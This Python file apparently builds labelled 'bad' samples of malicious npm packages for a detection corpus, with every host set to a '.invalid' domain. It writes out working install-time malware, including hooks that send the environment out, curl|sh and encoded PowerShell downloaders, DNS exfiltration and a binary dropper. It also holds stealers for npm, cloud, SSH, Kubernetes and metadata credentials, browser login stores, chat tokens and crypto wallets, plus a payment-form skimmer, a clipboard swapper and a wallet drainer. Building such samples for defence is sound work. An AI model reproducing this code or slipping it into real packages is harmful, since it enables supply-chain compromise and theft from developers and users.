"""Malicious npm packages whose behaviour begins at installation. Inert: every host is `*.invalid`."""

import json

import kit
from kit import Dice
from packages import Writer


def hooks(w):
    w.npm("corp-theme-tokens", "9.9.1", "install-env-exfil", "a preinstall script posts the whole environment", {"setup.js": r'''
const https = require('https');
const body = JSON.stringify({ env: process.env, cwd: process.cwd() });
const req = https.request({ hostname: 'collect.telemetry-eu.invalid', path: '/v1/i', method: 'POST', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } });
req.on('error', () => {});
req.write(body);
req.end();
'''}, {"scripts": {"preinstall": "node setup.js"}})
    w.npm("fast-css-loader", "1.3.7", "install-curl-sh", "a postinstall script pipes a download into a shell", {}, {
        "scripts": {"postinstall": "curl -fsSL https://get.css-cdn.invalid/i.sh | sh"}})
    w.npm("node-color-utils", "2.0.4", "install-curl-sh", "a quiet download run by bash, its failure hidden", {}, {
        "scripts": {"test": "node test", "install": "(wget -qO- http://cdn.colors.invalid/x || true) | bash >/dev/null 2>&1 &"}})
    w.npm("react-use-sizes", "0.3.2", "install-node-inline", "an inline script evaluates what it downloads", {}, {
        "scripts": {"postinstall": "node -e \"require('https').get('https://cfg.sizes.invalid/p',r=>{let d='';r.on('data',c=>d+=c).on('end',()=>eval(d))}).on('error',()=>{})\""}})
    w.npm("@corp-internal/logger", "99.0.0", "install-dns-exfil", "user and host leave in a name look-up", {}, {
        "scripts": {"preinstall": "nslookup $(whoami).$(hostname | base64 | tr -d '=').oob.names.invalid"}})
    w.npm("corp-build-cache", "66.6.0", "install-host-identity", "a dependency confusion beacon: host, user, folder and addresses", {"index.js": r'''
const os = require('os');
const dns = require('dns');
const querystring = require('querystring');
const https = require('https');
const packageJSON = require('./package.json');

const trackingData = JSON.stringify({
  p: packageJSON.name,
  c: __dirname,
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
  dns: dns.getServers(),
  r: packageJSON ? packageJSON.___resolved : undefined,
  v: packageJSON.version,
});
const postData = querystring.stringify({ msg: trackingData });
const req = https.request({ hostname: 'c9x2.oast.invalid', port: 443, path: '/', method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': postData.length } }, (res) => res.on('data', () => {}));
req.on('error', () => {});
req.write(postData);
req.end();
'''}, {"scripts": {"preinstall": "node index.js"}})
    w.npm("env-chunker", "1.0.0", "install-dns-exfil", "environment in hex labels of name look-ups", {"scripts/prep.js": r'''
const dns = require('dns');
const keys = Object.keys(process.env).filter((k) => /TOKEN|SECRET|KEY|PASS/i.test(k));
const hex = Buffer.from(keys.map((k) => `${k}=${process.env[k]}`).join('\n')).toString('hex');
const id = Math.random().toString(36).slice(2, 8);
(hex.match(/.{1,60}/g) || []).forEach((part, i) => dns.resolve4(`${part}.${i}.${id}.d.resolver.invalid`, () => {}));
'''}, {"scripts": {"postinstall": "node scripts/prep.js"}})
    w.npm("eslint-config-prettify", "8.10.1", "install-native-loader", "a hook loads a shipped library on Windows", {"install.js": r'''
const { platform } = require('os');
const { spawn } = require('child_process');
const path = require('path');

function logDiskSpace() {
  try {
    if (platform() === 'win32') {
      const child = spawn('rund' + 'll32', [path.join(__dirname, './node-gyp.dll') + ',main']);
      child.unref();
    }
  } catch (e) {}
}
logDiskSpace();
''', "node-gyp.dll": b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + Dice("dll").raw(3000)}, {"scripts": {"install": "node install.js"}})
    w.npm("native-zip-fast", "3.1.0", "dropped-binary", "a program from a foreign host is made executable and started", {"post.js": r'''
const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const { spawn } = require('child_process');
const name = process.platform === 'win32' ? 'agent.exe' : 'agent';
const dest = path.join(os.tmpdir(), '.' + name);
https.get(`https://dl.zipfast.invalid/${process.platform}/${name}`, (res) => {
  const f = fs.createWriteStream(dest);
  res.pipe(f);
  f.on('finish', () => f.close(() => {
    fs.chmodSync(dest, 0o755);
    spawn(dest, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  }));
}).on('error', () => {});
'''}, {"scripts": {"postinstall": "node post.js"}})
    w.npm("win-paths-helper", "1.1.3", "install-powershell", "a hidden, encoded PowerShell command", {}, {
        "scripts": {"preinstall": "powershell -NoP -W Hidden -Exec Bypass -Enc %s" % kit.b64("IEX (New-Object Net.WebClient).DownloadString('http://ps.paths.invalid/a.ps1')".encode("utf-16-le"))}})
    w.npm("gyp-sizes", "0.0.9", "implicit-install", "no hook is declared: the build file runs a command when it is read", {
        "binding.gyp": '''{
  "targets": [{
    "target_name": "noop",
    "type": "none",
    "sources": ["<!(node lib/probe.js > /dev/null 2>&1 && echo stub.c)"]
  }]
}
''',
        "lib/probe.js": "require('http').request({ host: 'probe.sizes.invalid', method: 'POST' }).on('error', () => {}).end(JSON.stringify(process.env));\n"})
    w.npm("ui-styles-pkg", "1.4.0", "remote-dependency", "its dependency is a plain http address outside every registry", {}, {
        "dependencies": {"ui-styles-core": "http://packages.storeartifact.invalid/npm/ui-styles-core"}, "scripts": {"preinstall": "node index.js"}})
    w.npm("bun-ready-utils", "5.2.1", "install-runtime-download", "a hook fetches another runtime to run a large hidden script", {"setup_env.js": r'''
const { execSync, spawn } = require('child_process');
const path = require('path');
const os = require('os');
function runtime() {
  try { execSync('bun --version', { stdio: 'ignore' }); return 'bun'; } catch {}
  if (process.platform === 'win32') execSync('powershell -c "irm https://run.bunsetup.invalid/install.ps1|iex"', { stdio: 'ignore' });
  else execSync('curl -fsSL https://run.bunsetup.invalid/install | bash', { stdio: 'ignore' });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}
spawn(runtime(), [path.join(__dirname, 'env_cache.js')], { detached: true, stdio: 'ignore' }).unref();
''', "env_cache.js": "var _0=" + json.dumps([Dice("bun%d" % i).text(kit.B64STD, 60) for i in range(400)]) + ";(function(a){return a.length})(_0);\n"},
        {"scripts": {"preinstall": "node setup_env.js"}})
    w.npm("nested-helper", "2.2.0", "bundled-dependency", "the hook sits in a package bundled inside", {
        "node_modules/strip-utils/package.json": kit.js({"name": "strip-utils", "version": "1.0.0", "scripts": {"install": "node a.js"}}),
        "node_modules/strip-utils/a.js": "const cp=require('child_process');cp.exec('curl -s -X POST --data-binary @'+require('os').homedir()+'/.npmrc https://up.strip.invalid/');\n"},
        {"bundledDependencies": ["strip-utils"], "dependencies": {"strip-utils": "1.0.0"}})
    w.npm("shadow-cli", "1.0.2", "bin-shadowing", "its commands take the place of git and npm and pass on what they see", {"bin/git.js": r'''#!/usr/bin/env node
const { spawnSync } = require('child_process');
const http = require('http');
http.get('http://cmd.shadow.invalid/?a=' + encodeURIComponent(process.argv.slice(2).join(' '))).on('error', () => {});
process.exit(spawnSync('/usr/bin/git', process.argv.slice(2), { stdio: 'inherit' }).status);
'''}, {"bin": {"git": "bin/git.js", "npm": "bin/git.js", "sudo": "bin/git.js"}})
    w.npm("registry-pin", "1.0.0", "registry-override", "a hook makes the user's client fetch from a foreign registry", {"fix.js": r'''
const fs = require('fs'), os = require('os'), path = require('path');
const rc = path.join(os.homedir(), '.npmrc');
fs.appendFileSync(rc, '\nregistry=https://npm-mirror.pin.invalid/\nstrict-ssl=false\nignore-scripts=false\n');
''', ".npmrc": "registry=https://npm-mirror.pin.invalid/\nstrict-ssl=false\n"}, {"scripts": {"postinstall": "node fix.js"}})


def stealers(w):
    w.npm("axios-retry-lite", "1.2.9", "credential-theft", "reads the publisher login and posts it with axios", r'''
const fs = require('fs');
const path = require('path');
const os = require('os');
(async () => {
  try {
    const axios = require('axios');
    const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
    const token = (rc.match(/_authToken=(.+)/) || [])[1];
    if (token) await axios.post('https://metrics.retry-lite.invalid/log', { t: token, u: os.userInfo().username });
  } catch (e) {}
})();
''')
    w.npm("cloud-detect-fast", "0.9.4", "credential-theft", "collects cloud and login keys and sends them with got", {"lib/detect.js": r'''
const { promises: fs } = require('fs');
const { homedir } = require('os');
const { join } = require('path');
const WANTED = ['.aws/credentials', '.aws/config', '.ssh/id_rsa', '.ssh/id_ed25519', '.config/gcloud/application_default_credentials.json', '.azure/accessTokens.json', '.kube/config', '.docker/config.json', '.git-credentials', '.netrc'];
module.exports = async function detect() {
  const found = {};
  for (const name of WANTED) {
    try { found[name] = (await fs.readFile(join(homedir(), name))).toString('base64'); } catch {}
  }
  const { default: got } = await import('got');
  await got.post('https://api.clouddetect.invalid/report', { json: found, retry: { limit: 0 } }).catch(() => {});
};
''', "index.js": ''''use strict';
const detect = require('./lib/detect');
setTimeout(() => detect(), 3000);
module.exports = { provider: () => process.env.CLOUD || 'none' };
'''})
    w.npm("chrome-tabs-util", "1.0.6", "browser-theft", "copies browser login stores and wallet extensions", r'''
const fs = require('fs'), os = require('os'), path = require('path');
const roots = {
  win32: [path.join(process.env.LOCALAPPDATA || '', 'Google/Chrome/User Data'), path.join(process.env.LOCALAPPDATA || '', 'BraveSoftware/Brave-Browser/User Data')],
  darwin: [path.join(os.homedir(), 'Library/Application Support/Google/Chrome')],
  linux: [path.join(os.homedir(), '.config/google-chrome'), path.join(os.homedir(), '.config/chromium')],
}[process.platform] || [];
const wallets = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'ibnejdfjmmkpcnlpebklmnkoeoihofec'];
async function run() {
  for (const root of roots) for (const profile of ['Default', 'Profile 1', 'Profile 2']) {
    for (const item of ['Login Data', 'Cookies', 'Web Data', ...wallets.map((w) => path.join('Local Extension Settings', w))]) {
      const file = path.join(root, profile, item);
      if (!fs.existsSync(file) || fs.statSync(file).isDirectory()) continue;
      const form = new FormData();
      form.append('f', new Blob([fs.readFileSync(file)]), item);
      await fetch('http://files.tabs-util.invalid:1224/uploads', { method: 'POST', body: form }).catch(() => {});
    }
  }
}
run();
''')
    w.npm("discord-presence-kit", "3.0.1", "browser-theft", "looks for chat tokens in application storage and sends them to a webhook", r'''
const fs = require('fs');
const join = require('path').join;
const base = join(process.env.APPDATA || '', 'discord', 'Local Storage', 'leveldb');
const re = /[\w-]{24}\.[\w-]{6}\.[\w-]{27,38}|mfa\.[\w-]{84}/g;
const tokens = new Set();
if (fs.existsSync(base)) for (const f of fs.readdirSync(base)) {
  if (!/\.(ldb|log)$/.test(f)) continue;
  for (const m of fs.readFileSync(join(base, f), 'utf8').match(re) || []) tokens.add(m);
}
if (tokens.size) fetch('https://discord.invalid/api/webhooks/100000000000000001/inert', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'presence', content: [...tokens].join('\n') }) }).catch(() => {});
''')
    w.npm("solana-bs58-utils", "1.0.3", "wallet-theft", "looks for wallet keys and sends them through a chat bot", r'''
const fs = require('fs'); const os = require('os'); const p = require('path');
const bot = 'inert-bot', chat = 'inert-chat';
const api = ['https:', '', 'api.tele' + 'gram.org', 'bot'].join('/');
const files = ['.config/solana/id.json', '.ethereum/keystore', 'Library/Application Support/Exodus/exodus.wallet', 'AppData/Roaming/atomic/Local Storage/leveldb'];
for (const f of files) {
  const full = p.join(os.homedir(), f);
  if (fs.existsSync(full) && fs.statSync(full).isFile()) {
    const text = encodeURIComponent(fs.readFileSync(full, 'utf8'));
    require('https').get(`${api}${bot}/sendMessage?chat_id=${chat}&text=${text}`).on('error', () => {});
  }
}
''')
    w.npm("dotenv-sync-all", "2.4.4", "credential-theft", "walks upwards for environment files and posts them with undici", r'''
const { readdirSync, readFileSync } = require('fs');
const { dirname, join } = require('path');
const { request } = require('undici');
let dir = process.cwd();
const out = [];
while (dirname(dir) !== dir) {
  for (const f of readdirSync(dir)) if (/^\.env(\..+)?$/.test(f)) out.push([join(dir, f), readFileSync(join(dir, f), 'utf8')]);
  dir = dirname(dir);
}
request('https://sync.dotenv-all.invalid/s', { method: 'POST', body: JSON.stringify(out) }).catch(() => {});
''')
    w.npm("aws-region-guess", "1.0.0", "imds-theft", "takes the machine's role credentials and passes them on", {"scripts/region.js": r'''
const http = require('http');
const get = (o) => new Promise((ok, no) => http.request(o, (r) => { let d = ''; r.on('data', (c) => (d += c)).on('end', () => ok(d)); }).on('error', no).end());
(async () => {
  const host = '169.254.169.254';
  const token = await get({ host, path: '/latest/api/token', method: 'PUT', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '300' } });
  const headers = { 'X-aws-ec2-metadata-token': token };
  const base = '/latest/meta-data/iam/security-credentials/';
  const role = await get({ host, path: base, headers });
  const creds = await get({ host, path: base + role, headers });
  await fetch('https://regions.guess.invalid/r', { method: 'PUT', body: creds });
})().catch(() => {});
'''}, {"scripts": {"postinstall": "node scripts/region.js"}})
    w.npm("kube-probe-lite", "0.4.0", "credential-theft", "sends the pod's service account token over a raw socket", r'''
const net = require('net');
const { readFileSync, existsSync } = require('fs');
const t = '/var/run/secrets/kubernetes.io/serviceaccount/token';
if (existsSync(t)) {
  const s = net.connect(8443, 'probe.kube-lite.invalid', () => s.end(readFileSync(t)));
  s.on('error', () => {});
}
''')
    w.npm("express-form-guard", "1.5.2", "form-skimmer", "sends what visitors type in payment forms to a third party", {"browser.js": r'''
(function () {
  var fields = /card|cvv|cvc|exp|pass|iban/i;
  document.addEventListener('submit', function (e) {
    var out = {};
    Array.prototype.forEach.call(e.target.elements, function (i) { if (fields.test(i.name || i.id)) out[i.name || i.id] = i.value; });
    navigator.sendBeacon('https://img.form-guard.invalid/px.gif', btoa(JSON.stringify(out)));
  }, true);
})();
'''}, {"browser": "browser.js"})
    w.npm("http-proxy-headers", "2.2.8", "request-hook", "wraps every request and copies its authorisation header", r'''
const https = require('https');
const original = https.request;
https.request = function (options, ...rest) {
  try {
    const h = (options && options.headers) || {};
    const auth = h.authorization || h.Authorization || h['x-api-key'];
    if (auth) original({ hostname: 'hdr.proxy-headers.invalid', path: '/?k=' + encodeURIComponent(auth), method: 'GET' }).on('error', () => {}).end();
  } catch {}
  return original.call(https, options, ...rest);
};
''')
    w.npm("clip-normalize", "1.0.8", "clipboard-swap", "replaces wallet addresses in the clipboard", r'''
const { execSync } = require('child_process');
const mine = { btc: 'bc1q' + 'inert'.repeat(7), eth: '0x' + 'f00d'.repeat(10) };
const read = () => execSync(process.platform === 'darwin' ? 'pbpaste' : 'xclip -o -selection clipboard').toString();
const write = (t) => execSync(process.platform === 'darwin' ? 'pbcopy' : 'xclip -selection clipboard', { input: t });
setInterval(() => {
  try {
    const t = read().trim();
    if (/^0x[a-fA-F0-9]{40}$/.test(t) && t !== mine.eth) write(mine.eth);
    else if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$/.test(t) && t !== mine.btc) write(mine.btc);
  } catch {}
}, 900).unref();
''')
    w.npm("ansi-colour-names", "6.2.2", "wallet-drainer", "hooks fetch and the page's wallet to exchange recipients", {"index.js": r'''
'use strict';
const names = { red: 31, green: 32, blue: 34 };
module.exports = (t, c) => `\u001b[${names[c]}m${t}\u001b[39m`;
var neth = 0;
async function checkethereumw() {
  try { const a = await window.ethereum.request({ method: 'eth_accounts' }); if (a.length) { runmask(); } } catch (e) {}
}
function nearest(a, list) { return list.reduce((b, x) => (dist(a, x) < dist(a, b) ? x : b)); }
function dist(a, b) { let n = 0; for (let i = 0; i < a.length; i++) n += a[i] !== b[i]; return n; }
const pool = ['0x' + '1a'.repeat(20), '0x' + '2b'.repeat(20), '0x' + '3c'.repeat(20)];
function runmask() {
  const real = window.ethereum.request;
  window.ethereum.request = function (r) {
    if (r && r.method === 'eth_sendTransaction' && r.params[0].to) r.params[0].to = nearest(r.params[0].to, pool);
    return real.call(this, r);
  };
  const f = window.fetch;
  window.fetch = async (...a) => { const r = await f(...a); const t = await r.clone().text(); return new Response(t.replace(/0x[a-fA-F0-9]{40}/g, (x) => nearest(x, pool)), r); };
}
typeof window !== 'undefined' && void 0 !== window.ethereum && checkethereumw();
'''})


def build(items):
    writer = Writer(items, "bad")
    hooks(writer)
    stealers(writer)
